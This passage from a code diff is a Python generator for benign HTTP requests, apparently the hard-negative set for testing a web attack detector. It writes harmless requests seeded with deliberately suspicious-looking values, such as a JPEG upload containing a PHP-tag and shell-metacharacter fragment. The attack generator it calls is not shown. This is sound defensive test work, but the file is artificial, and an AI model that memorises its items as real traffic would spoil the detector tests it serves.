+        "mutation { addComment(postId: \"42\", text: \"Nice!\") { id } }",
+    ],
+    "b": [
+        "{ viewer { login repositories(first: 5) { nodes { name } } } }",
+        "query Search($q: String) { search(query: $q, type: REPOSITORY, first: 3) { repositoryCount } }",
+        "mutation UpdateUser($input: UserInput!) { updateUser(input: $input) { ok } }",
+    ],
+}
+
+VALUES = {
+    "a": [
+        "550e8400-e29b-41d4-a716-446655440000", "2024-05-17T10:15:30Z", "https://www.example.com/products/shoes?color=red&size=42",
+        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
+        "SGVsbG8gV29ybGQhIFRoaXMgaXMgYmFzZTY0Lg==", "john.smith@example.co.uk", "+44 20 7946 0958", "#ff8800", "1,234.56", "a/b/c.txt",
+        "sort=price&dir=desc", "C++ & C#", "50%", "-12.5", "true", "N/A", "Q&A", "rock'n'roll", "e-mail", "100% cotton",
+    ],
+    "b": [
+        "f47ac10b-58cc-4372-a567-0e02b2c3d479", "17/05/2024", "https://docs.example.org/guide/intro#section-2", "mailto:info@example.com",
+        "dGhlIHF1aWNrIGJyb3duIGZveA==", "ref:refs/heads/main", "image/png", "192.168.1.10", "en-US,en;q=0.9", "O(n log n)",
+        "x=1;y=2", "A+ grade", "5 < 6", "(optional)", "yes/no", "don't", "$100", "node@18", "user_name-01", "#hashtag",
+    ],
+}
+
+
+def benign():
+    out = []
+
+    def add(s, r, note):
+        r["set"] = s
+        r["note"] = note
+        out.append(r)
+
+    for s in "ab":
+        # Prose in every place a user types text.
+        for i, t in enumerate(PROSE[s]):
+            h = base_headers()
+            add(s, req("GET", f"/search?q={q(t)}&page=1", h), "prose query")
+            hj = dict(h, **{"Content-Type": "application/json"})
+            add(s, req("POST", "/api/v1/comments", hj, json.dumps({"postId": 42, "author": {"name": "Renée O'Connor"}, "text": t})), "prose json")
+            hf = dict(h, **{"Content-Type": "application/x-www-form-urlencoded"})
+            add(s, req("POST", "/contact", hf, f"name={q('Seán O' + chr(39) + 'Brien')}&email=sean%40example.ie&message={q(t).replace('%20', '+')}"), "prose form")
+            if i % 3 == 0:
+                hm = dict(h, **{"Content-Type": "multipart/form-data; boundary=XbOuNdArY"})
+                body = f"--XbOuNdArY\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n{t}\r\n--XbOuNdArY\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"IMG_2041.JPG\"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0JFIF<?php ;|&$(\r\n--XbOuNdArY--\r\n"
+                add(s, req("POST", "/gallery/upload", hm, body), "prose multipart")
+        for t in MARKDOWN[s] + CODE[s]:
+            hj = dict(base_headers(), **{"Content-Type": "application/json"})
+            add(s, req("PUT", "/api/v1/posts/17", hj, json.dumps({"title": "Notes", "body": t, "draft": False})), "markdown/code json")
+            add(s, req("PATCH", "/api/v1/snippets/3", hj, json.dumps({"content": t, "language": "text"})), "markdown/code json")
+        for g in GRAPHQL[s]:
+            add(s, req("GET", "/graphql?query=" + q(g), base_headers()), "graphql query string")
+            hj = dict(base_headers(), **{"Content-Type": "application/json"})
+            add(s, req("POST", "/graphql", hj, json.dumps({"query": g, "variables": {"first": 10, "q": "O'Reilly books"}})), "graphql json")
+        for i, v in enumerate(VALUES[s]):
+            add(s, req("GET", f"/api/search?{PARAMS[i % len(PARAMS)]}={q(v)}&ts=1715940000", base_headers()), "value query")
+            hj = dict(base_headers(), **{"Content-Type": "application/json"})
+            add(s, req("POST", "/api/v2/events", hj, json.dumps({"type": "click", "value": v, "meta": {"ref": "https://www.example.com/"}})), "value json")
+        # Methods APIs use.
+        for m in ["PUT", "PATCH", "DELETE", "OPTIONS", "HEAD"]:
+            h = dict(base_headers(), **{"Content-Type": "application/json", "Authorization": "Bearer " + VALUES["a"][3]})
+            add(s, req(m, f"/api/v1/users/{rnd.randint(1, 9999)}", h, json.dumps({"active": True}) if m in ("PUT", "PATCH") else None), "api method")
+        # XML bodies.
+        xml = {
+            "a": ['<?xml version="1.0"?><order><id>17</id><customer name="Renée O\'Connor">VIP</customer><note>Leave at the door -- thanks!</note></order>',
+                  '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>'],
+            "b": ['<?xml version="1.0"?><!DOCTYPE note [<!ENTITY writer "Donald Duck.">]><note><to>Tove</to><from>&writer;</from><body>Don\'t forget me this weekend!</body></note>',
+                  '<?xml version="1.0"?><rss version="2.0"><channel><title>News</title><item><title>Select committee meets</title><link>https://news.example.com/a?id=3&amp;s=1</link></item></channel></rss>'],
+        }
+        for x in xml[s]:
+            h = dict(base_headers(), **{"Content-Type": "application/xml"})
+            add(s, req("POST", "/api/orders", h, x), "xml")
+        # Ordinary page views with realistic headers and cookies.
+        paths = {
+            "a": ["/", "/products/red-shoes-42", "/blog/2024/05/hello-world", "/static/js/app.4f3a2b.js", "/images/logo@2x.png",
+                  "/category/men/shoes?sort=price_asc&page=2", "/account/orders/1234", "/api/v1/users/me", "/cart", "/checkout/step-2",
+                  "/search?q=red+running+shoes&color=red&size=42", "/docs/getting-started#install", "/favicon.ico", "/robots.txt",
+                  "/sitemap.xml", "/fr/produits/chaussures", "/zh-cn/产品", "/api/v1/items?ids=1,2,3&fields=name,price"],
+            "b": ["/about-us", "/products?category=kids&min_price=10&max_price=50", "/en-gb/help/returns", "/assets/fonts/inter.woff2",
+                  "/u/jane_doe/profile", "/api/v2/orders?status=shipped&since=2024-01-01", "/news/2024/05/17/markets-today",
+                  "/search?q=%E4%BD%A0%E5%A5%BD", "/wiki/Renée_O'Connor", "/events/2024-06-01/tickets?qty=2",
+                  "/de/suche?q=K%C3%A4se", "/ar/%D8%A7%D9%84%D8%B1%D8%A6%D9%8A%D8%B3%D9%8A%D8%A9", "/.well-known/openid-configuration",
+                  "/oauth/callback?code=4/0AX4XfWh&state=af0ifjsldkj&scope=email%20profile", "/api/v1/files/report%202024.pdf",
+                  "/login?next=%2Faccount%2Forders%3Fpage%3D2", "/redirect?url=https%3A%2F%2Fwww.example.com%2Fsale", "/etc-fashion/summer-collection"],
+        }
+        for p in paths[s]:
+            for ua in rnd.sample(UA_BROWSER, 2):
+                h = base_headers(ua)
+                h["Cookie"] = "session=s%3Aj1k2l3.abcDEF; _ga=GA1.2.1234567890.1715940000; consent={\"ads\":false,\"stats\":true}; cart=%5B%7B%22id%22%3A3%7D%5D"
+                h["Referer"] = "https://shop.example.com/search?q=shoes&page=1"
+                add(s, req("GET", p, h), "page view")
+    return out
+
+
+def write(path, rows):
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "w", encoding="utf-8") as f:
+        for r in rows:
+            f.write(json.dumps(r, ensure_ascii=False) + "\n")
+
+
+def main():
+    by_group = {}
+    for r in attacks():
+        by_group.setdefault(r["group"], []).append(r)
+    for g, rows in sorted(by_group.items()):
+        write(os.path.join(HERE, "attacks", g + ".jsonl"), rows)
+    b = benign()
+    write(os.path.join(HERE, "benign", "generated.jsonl"), b)
+    print("attacks:", sum(len(v) for v in by_group.values()), "benign:", len(b))
+
+
+if __name__ == "__main__":
+    main()
